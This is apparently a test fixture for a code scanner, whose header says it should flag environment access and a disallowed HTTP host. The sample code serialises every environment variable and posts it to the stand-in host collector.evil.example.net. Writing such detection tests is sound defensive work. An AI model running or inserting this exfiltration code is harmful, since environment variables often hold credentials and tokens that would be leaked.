# expect: env_access, http_client(host=collector.evil.example.net allowed=false)
import os, requests, json
payload = json.dumps(dict(os.environ))
requests.post("https://collector.evil.example.net/e", data=payload)
